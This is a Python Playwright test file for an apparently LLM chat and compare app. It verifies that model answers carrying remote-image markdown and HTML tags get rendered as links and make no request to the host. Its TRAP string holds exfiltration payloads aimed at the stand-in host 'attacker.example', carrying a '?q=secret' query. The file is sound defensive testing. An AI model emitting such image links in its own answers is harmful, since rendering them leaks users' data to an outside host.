"""In a real browser: an answer holding a remote image (``![](https://attacker/?q=secret)``)
shows a link, and the browser sends no request to that host, while the answer streams, once
it is shown, on the chat page, or in the diff view."""
from __future__ import annotations

from urllib.parse import urlsplit

from playwright.sync_api import expect

from tests.browser.streamlit_page import open_app, settle
from tests.emulated import PROVIDER_MODELS
from tests.fakes.script import Reply

ATTACKER = "attacker.example"
TRAP = (f"Sure. ![](https://{ATTACKER}/?q=secret) Also <img src=\"https://{ATTACKER}/img\"> and "
        f"![chart][c]\n\n[c]: https://{ATTACKER}/chart.png\n\nafter a blank line "
        f"![x](https://{ATTACKER}/late.png)")


def watch_requests(page) -> list[str]:
    """Every URL the page asks for from now on; requests to the attacker are also blocked, so
    nothing leaves the machine even if one is made."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.route(f"**://{ATTACKER}/**", lambda route: route.abort())
    return asked


def to_attacker(asked: list[str]) -> list[str]:
    return [url for url in asked if urlsplit(url).hostname == ATTACKER]


def test_a_compared_answer_fetches_nothing(page, parley_app, emulator):
    app = parley_app(models=("claude", "gemini"))
    emulator.enqueue(PROVIDER_MODELS["claude"], Reply(text=TRAP, tokens_per_second=30))
    asked = watch_requests(page)
    open_app(page, f"{app.url}/compare")
    prompt = page.get_by_label("Prompt", exact=True)
    prompt.fill("Show me a chart")
    prompt.blur()
    send = page.get_by_role("button", name="Send")
    expect(send).to_be_enabled(timeout=60_000)
    settle(page)
    send.click()
    settle(page, timeout_ms=60_000)
    expect(page.get_by_text("after a blank line").first).to_be_visible(timeout=30_000)  # it streams
    page.get_by_text("Diff two answers").click()
    settle(page)
    page.wait_for_timeout(1000)  # time for any image the page holds to be asked for
    assert asked, "the page's own requests were seen"
    assert to_attacker(asked) == []
    link = page.get_by_role("link", name="image", exact=True).first
    assert link.get_attribute("href") == f"https://{ATTACKER}/?q=secret"  # there to click


def test_a_chat_answer_fetches_nothing(page, parley_app, emulator):
    app = parley_app(models=("claude",))
    emulator.enqueue(PROVIDER_MODELS["claude"], Reply(text=TRAP))
    asked = watch_requests(page)
    open_app(page, f"{app.url}/chat")
    box = page.get_by_placeholder("Message")
    box.fill("Show me a chart")
    box.press("Enter")
    expect(page.get_by_text("after a blank line")).to_be_visible(timeout=60_000)
    settle(page, timeout_ms=60_000)
    expect(page.get_by_role("link", name="image").first).to_be_visible()
    page.wait_for_timeout(1000)
    assert to_attacker(asked) == []
